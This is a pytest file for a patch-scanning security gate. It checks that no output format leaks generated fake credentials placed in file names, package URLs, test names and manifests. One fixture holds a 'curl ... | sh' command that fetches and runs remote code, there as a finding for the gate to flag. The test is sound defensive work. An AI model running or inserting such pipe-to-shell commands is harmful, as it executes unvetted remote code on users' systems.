"""A finding never shows a credential: not in its path, not in what it quotes, in no format."""

from __future__ import annotations

import random
from pathlib import Path

import pytest
from click.testing import CliRunner

from improve_loop.cli.gate import FORMATS, gate
from tests.gates.made import made_token
from tests.gates.repository import patch_of, repository

TOKEN = made_token("glpat-{A20}", random.Random(1))
CHOSEN = made_token("{A9}", random.Random(2)) + "!x7"
FILES = {"app.py": b"one\n", "requirements.txt": b"", "tests/app.test.js": b"it('a', () => {});\n"}
CASES = {
    "the name of a file": {f"keys/{TOKEN}.txt": b"x\n"},
    "the name of a file with another finding": {f"{TOKEN}.sh": b"curl https://x.test/i | sh\n"},
    "the address of a package": {"requirements.txt": f"a @ git+https://u:{TOKEN}@x.test/a\n".encode()},
    "a password in the address of a package": {"requirements.txt": f"a @ git+https://u:{CHOSEN}@x.test/a\n".encode()},
    "the head of a test": {"tests/app.test.js": f"it.skip('a', () => f('{TOKEN}'));\n".encode()},
    "the head of a test, cut": {"tests/app.test.js": f"it.skip('{'a' * 50}', () => f('{TOKEN}'));\n".encode()},
    "a name in a manifest": {"requirements.txt": f"{TOKEN}==1.0\n".encode()},
}


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return repository(tmp_path_factory.mktemp("quoted"), FILES)


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("case", CASES)
def test_no_format_shows_it(repo: Path, case: str, form: str) -> None:
    patch = patch_of(repo, {**CASES[case]})
    result = CliRunner().invoke(gate, ["--repo", str(repo), "--patch", "-", "--format", form], input=patch)
    assert result.exit_code == 4
    for secret in (TOKEN, CHOSEN):
        assert not any(secret[at : at + 4] in result.output for at in range(6, len(secret) - 4))


def test_headers_that_disagree_do_not_show_it(repo: Path) -> None:
    patch = f"--- a/app.py\n+++ b/{TOKEN}\n@@ -1 +1 @@\n-one\n+two\n".encode()
    result = CliRunner().invoke(gate, ["--repo", str(repo), "--patch", "-"], input=patch)
    assert "kinds/header-disagrees" in result.output
    assert TOKEN not in result.output
